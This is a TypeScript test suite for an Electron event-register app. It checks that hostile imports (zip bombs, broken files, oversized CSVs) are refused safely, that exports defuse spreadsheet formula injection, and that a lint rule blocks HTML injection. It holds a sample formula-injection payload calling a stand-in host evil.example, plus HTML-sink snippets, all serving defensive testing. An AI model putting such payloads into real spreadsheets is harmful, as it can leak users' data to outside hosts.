// Hostile input: over 200 generated broken files are refused in Russian or read safely, the register
// untouched, none over 10 s, the biggest in a child process with a 512 MB heap (running out of memory
// ends it, and the test names the file); `reestr import` of a CSV of separators near the size cap is
// refused within a 1 GB heap; exported text never becomes a formula; nothing typed is ever rendered
// as HTML (an ESLint rule, checked here to catch what it must).
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { ESLint } from 'eslint';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeCore, openCore, type LocalCore } from '../../electron/core/core';
import { analyze } from '../../electron/core/import/analyze';
import { readEntry, zipEntries } from '../../electron/core/import/zip';
import { loadDemo } from '../../electron/core/services/demo';
import { createEvents, listEvents } from '../../electron/core/services/events';
import { exportAll, exportCsv, exportPeriod } from '../../electron/core/services/exports';
import { commitPreview, readImportSource } from '../../electron/core/services/imports';
import { parsePeriod, type Period } from '../../shared/period';
import { EventFilterSchema, EventInputSchema } from '../../shared/schema/event';
import { hostileCases, planCsv, sharedPlanXlsx, SOUND_ROWS } from '../support/hostile-files';
import { dbDigest, messageProblems, runCase, type CaseReport } from '../support/hostile-run';
import { tempCore } from '../helpers';

const ROOT = join(import.meta.dirname, '../..');
const CHILD = join(ROOT, 'tests/support/hostile-child.ts');
const CASES = hostileCases();
const LIGHT = CASES.filter((c) => !c.heavy);
const HEAVY = CASES.filter((c) => c.heavy);

interface ChildRun {
  reports: Map<string, CaseReport & { heapMB: number }>;
  /** The case the child was on when it ended without reporting it, and why. */
  died: { name: string | null; how: string } | null;
}

/** Runs the heavy cases in `node --max-old-space-size=512`; a case that takes the heap kills only it. */
function runHeavy(): Promise<ChildRun> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--max-old-space-size=512', '--import', 'tsx', CHILD, ...HEAVY.map((c) => c.name)], {
      cwd: ROOT,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), 150_000);
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      const reports = new Map<string, CaseReport & { heapMB: number }>();
      let started: string | null = null;
      for (const line of stdout.split('\n').filter(Boolean)) {
        const item = JSON.parse(line) as { start?: string; report?: CaseReport; heapMB?: number };
        if (item.start) started = item.start;
        if (item.report) {
          reports.set(item.report.name, { ...item.report, heapMB: item.heapMB ?? 0 });
          started = null;
        }
      }
      const ok = code === 0 && started === null;
      resolve({ reports, died: ok ? null : { name: started, how: `exit ${code} ${signal ?? ''}: ${stderr.slice(-1500)}` } });
    });
  });
}

describe('the import, given hostile files', () => {
  let core: LocalCore;
  let dir: string;
  let heavy: Promise<ChildRun>;

  beforeAll(async () => {
    heavy = runHeavy(); // on the other CPU while the light cases run here
    dir = mkdtempSync(join(tmpdir(), 'reestr-hostile-'));
    core = openCore(join(dir, 'reestr.sqlite'));
    await loadDemo(core);
  });

  afterAll(async () => {
    closeCore(core);
    rmSync(dir, { recursive: true, force: true });
    await heavy;
  });

  it('has more than 200 of them, of every kind', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(200);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
    expect(new Set(CASES.map((c) => c.group))).toEqual(new Set([
      'random bytes', 'cut zip', 'damaged zip', 'zip bomb', 'entities', 'size', 'dates', 'odd text', 'empty', 'encoding', 'wrong type',
    ]));
  });

  it.each(LIGHT.map((c) => [c.name, c] as const))('%s', async (_, c) => {
    const report = await runCase(core, c);
    expect(report.problems).toEqual([]);
  });

  it.each(HEAVY.map((c) => [c.name, c] as const))('%s (own process, 512 MB heap)', async (name) => {
    const run = await heavy;
    const report = run.reports.get(name);
    if (!report) {
      const why = run.died?.name === name ? `the process ended on it: ${run.died.how}` : `not reached: ${run.died?.name ?? ''} ended the process first`;
      expect.fail(`${name}: ${why}`);
    }
    expect(report.problems).toEqual([]);
    expect(report.heapMB).toBeLessThan(512);
  }, 160_000);

  it('keeps what a file holds, minus the invisible characters, when it is committed', async () => {
    const target = tempCore();
    const rows = [['\u202eмурoФ\u202c  Фо\u200bрум\u0007 молодёжи', '12.06.2023', 'Орша'], ...SOUND_ROWS, ['Семинар', '30 февраля 2023', 'Орша']];
    for (const [name, data] of [['план.csv', planCsv(rows)], ['план.xlsx', sharedPlanXlsx(rows)]] as const) {
      const source = await readImportSource(name, data);
      const preview = await analyze(target, source, { decisions: {} });
      expect(preview.rows.find((r) => r.status === 'error')?.errors.join(' ')).toMatch(/30 февраля|дат/);
      await commitPreview(target, preview, {}, source);
    }
    const titles = (await listEvents(target, EventFilterSchema.parse({ limit: 100 }))).items.map((e) => e.title);
    // The second file's rows are duplicates of the first's (skipped): each title once, no «Семинар».
    expect(titles.sort()).toEqual(['муроФ Форум молодёжи', ...SOUND_ROWS.map((r) => r[0] as string)].sort());
  });

  it('leaves the register as it was when a commit fails half-way', async () => {
    const target = tempCore();
    await loadDemo(target);
    const source = await readImportSource('план.csv', planCsv(SOUND_ROWS));
    const preview = await analyze(target, source, {});
    const before = dbDigest(target);
    // A row no schema allows, smuggled in after the preview: the batch must go as a whole.
    const broken = { ...preview, rows: [...preview.rows, { ...(preview.rows[0] as (typeof preview.rows)[number]), event: { ...preview.rows[0]?.event, startDate: '2023-02-30' } as never }] };
    await expect(commitPreview(target, broken, {}, source)).rejects.toThrow();
    expect(dbDigest(target)).toBe(before);
  });
});

describe('the export, given text that looks like a formula', () => {
  const TITLES = ['=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', '+7 (4812) 20-20-20', '-1', '@SUM(A1:A9)', '=1+1', '\t=1+1', '\r=1+1'];

  function partsXml(base64: string, prefix: string): string {
    const data = Buffer.from(base64, 'base64');
    return zipEntries(data).filter((e) => e.name.startsWith(prefix)).map((e) => readEntry(data, e, 50_000_000)?.toString('utf8') ?? '').join('\n');
  }

  async function coreWithTitles(): Promise<LocalCore> {
    const core = tempCore();
    await createEvents(core, TITLES.map((title, i) => EventInputSchema.parse({ title: `${title} №${i}`, startDate: '2021-12-01', city: 'Орша' })));
    return core;
  }

  it('writes it as text in the period workbook and the full export: no cell has a formula', async () => {
    const core = await coreWithTitles();
    for (const file of [await exportPeriod(core, { period: parsePeriod('2021-H2') as Period }), await exportAll(core)]) {
      const sheets = partsXml(file.data, 'xl/worksheets/');
      expect(/<f[ >]/.test(sheets), 'a formula cell').toBe(false);
      // Every text a cell of its own, read back as that text.
      const cells = (await readImportSource('выгрузка.xlsx', Buffer.from(file.data, 'base64'))).workbook.sheets.flatMap((sheet) => sheet.rows.flat());
      for (const [i, title] of TITLES.entries()) expect(cells).toContain(`${title.replace(/^[\t\r]/, '')} №${i}`);
    }
  });

  it('defuses it in the CSV with a leading apostrophe, so Excel shows it as text', async () => {
    const core = await coreWithTitles();
    const csv = Buffer.from((await exportCsv(core, { period: parsePeriod('2021-H2') as Period })).data, 'base64').toString('utf8');
    const titles = csv.split('\r\n').slice(1, -1).map((line) => line.split(';')[1]);
    expect(titles.length).toBe(TITLES.length);
    for (const field of csv.split(/[;\r\n]+/)) expect(field).not.toMatch(/^"?[=+\-@\t\r]/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Нажмите"") №0"`);
    expect(csv).toContain("'+7 (4812) 20-20-20 №1");
    expect(csv).toContain("'-1 №2");
    expect(csv).toContain("'@SUM(A1:A9) №3");
  });
});

/** The register's rows, as dbDigest sees them, but for the statistics that closing a register refreshes. */
function rowsDigest(file: string): string {
  const db = new Database(file, { readonly: true });
  try {
    const tables = db.prepare("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_stat%' ORDER BY name").pluck().all() as string[];
    return JSON.stringify(tables.map((table) => [table, (db.prepare(`SELECT * FROM "${table}"`).raw().all() as unknown[][]).map((row) => JSON.stringify(row)).sort()]));
  } finally {
    db.close();
  }
}

describe('reestr import of a CSV of separators near the size cap', () => {
  /** `reestr import` in a child with a 1 GB heap: its exit, the command's code and message, its peak memory. */
  function cliImport(file: string, db: string): Promise<{ exit: number | null; code: number; err: string; peakMb: number }> {
    return new Promise((resolve) => {
      const child = spawn(process.execPath, ['--max-old-space-size=1024', '--import', 'tsx', join(ROOT, 'bench/cli-import.ts'), file, db], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      child.on('close', (exit) => {
        const line = stdout.trim().split('\n').at(-1) ?? '';
        const result = line.startsWith('{') ? (JSON.parse(line) as { code: number; err: string; peakMb: number }) : { code: -1, err: stderr.slice(-1500), peakMb: 0 };
        resolve({ exit, ...result });
      });
    });
  }

  it.each([
    ['99 MB of «;»', 'разделители.csv', () => Buffer.alloc(99 * 1024 * 1024, ';'), /В строке 1 файла «разделители\.csv» больше 16\s384 столбцов/],
    ['200,000 rows × 500 columns', 'строки-столбцы.csv', () => Buffer.from(`${';'.repeat(499)}\n`.repeat(200_000)), /В файле «строки-столбцы\.csv» больше 5\s000\s000 ячеек \(предел превышен в строке 10\s001\)/],
  ] as const)('%s: refused in Russian, naming the limit and the row, within a 1 GB heap; the register unchanged', async (what, name, make, message) => {
    const dir = mkdtempSync(join(tmpdir(), 'reestr-csv-'));
    try {
      const db = join(dir, 'reestr.sqlite');
      const core = openCore(db);
      await loadDemo(core);
      closeCore(core);
      const before = rowsDigest(db);
      const file = join(dir, name);
      writeFileSync(file, make());
      // Not a dry run: the refusal must come before anything is written.
      const run = await cliImport(file, db);
      console.log(`reestr import, ${what}: peak memory ${Math.round(run.peakMb)} MB`);
      expect(run.exit, run.err).toBe(0); // the process ended by itself: the heap was enough
      expect(run.code).toBe(1);
      expect(run.err).toMatch(message);
      expect(messageProblems(run.err.replace(/^Ошибка: /, ''), name)).toEqual([]);
      expect(rowsDigest(db)).toBe(before);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});

describe('the renderer', () => {
  it('may not render anything as HTML: the lint rule catches each way of doing it', async () => {
    const eslint = new ESLint({ cwd: ROOT });
    const ways = [
      'export const A = () => <div dangerouslySetInnerHTML={{ __html: "x" }} />;',
      'export function f(e: HTMLElement, t: string) { e.innerHTML = t; }',
      'export function f(e: HTMLElement, t: string) { e.outerHTML = t; }',
      'export function f(e: HTMLElement, t: string) { e.insertAdjacentHTML("beforeend", t); }',
      'export function f(t: string) { document.write(t); }',
      'export function f(t: string) { return new DOMParser().parseFromString(t, "text/html"); }',
    ];
    for (const code of ways) {
      const [result] = await eslint.lintText(code, { filePath: join(ROOT, 'renderer/features/x.tsx') });
      expect(result?.messages.map((m) => m.message).join(' '), code).toMatch(/HTML/);
    }
    const [plain] = await eslint.lintText('export const A = ({ t }: { t: string }) => <div title={t}>{t}</div>;', { filePath: join(ROOT, 'renderer/features/x.tsx') });
    expect(plain?.messages.filter((m) => /HTML/.test(m.message))).toEqual([]);
  });
});
